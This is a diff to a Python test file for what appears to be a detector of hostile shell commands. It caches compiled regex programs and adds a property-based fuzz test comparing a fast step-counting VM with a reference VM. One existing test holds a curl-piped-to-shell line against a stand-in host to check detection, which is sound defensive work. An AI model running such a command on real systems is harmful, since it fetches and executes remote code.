@@ -35,9 +35,13 @@ def test_piece_is_linear(name):
 class Counting(object):
     """A piece whose every call is also executed by the counting VM (steps added up)."""
 
+    programs = {}     # regex -> VM program, compiled once per run
+
     def __init__(self, regex, counter):
         self.regex = regex
-        self.prog = RB.compile_program(regex)
+        if regex not in self.programs:
+            self.programs[regex] = RB.compile_program(regex)
+        self.prog = self.programs[regex]
         self.counter = counter
 
     def _count(self, text, pos, endpos, mode):
@@ -147,3 +151,26 @@ def test_curl_sh_after_a_hostile_run_is_still_found():
     line = "python -c socket " * 235 + "; curl http://e/x | sh"
     names = [n for n, _h in L.match_line(line)]
     assert "download_piped_to_shell" in names
+
+
+# ------------------------------------------------ the fast counting VM is the plain one, faster
+from hypothesis import given, settings, strategies as st  # noqa: E402
+
+_PIECE_NAMES = sorted(L.PIECES)
+_ALPHABET = sorted(set("".join("".join(RB._atom_samples(list(RB.sre_parse.parse(p.pattern)), []))
+                               for p in L.PIECES.values())) | set(" \n-|/.:"))
+
+
+@settings(max_examples=int(os.environ.get("HOSTGUARD_FUZZ_EXAMPLES", 150)), deadline=None)
+@given(st.sampled_from(_PIECE_NAMES), st.text(alphabet=_ALPHABET, max_size=80),
+       st.sampled_from(["match", "search", "findall"]), st.sampled_from([40, 10 ** 6]))
+def test_property_fast_vm_counts_like_the_plain_vm(name, text, mode, budget):
+    """Same (matched, steps, exhausted) as the one-instruction-a-turn VM, on any text, in
+    every mode, with and without running out of budget: the 1 MiB figures count the same work."""
+    regex = L.PIECES[name]
+    prog = RB.compile_program(regex)
+    assert RB.run_counted(regex, text, mode, budget, prog) == \
+        RB.run_counted(regex, text, mode, budget, prog, reference=True)
+    if mode != "findall" and budget > 1000:
+        assert RB.run_counted(regex, text, mode, budget, prog)[0] == bool(
+            (regex.match if mode == "match" else regex.search)(text)) or "\\b" in regex.pattern
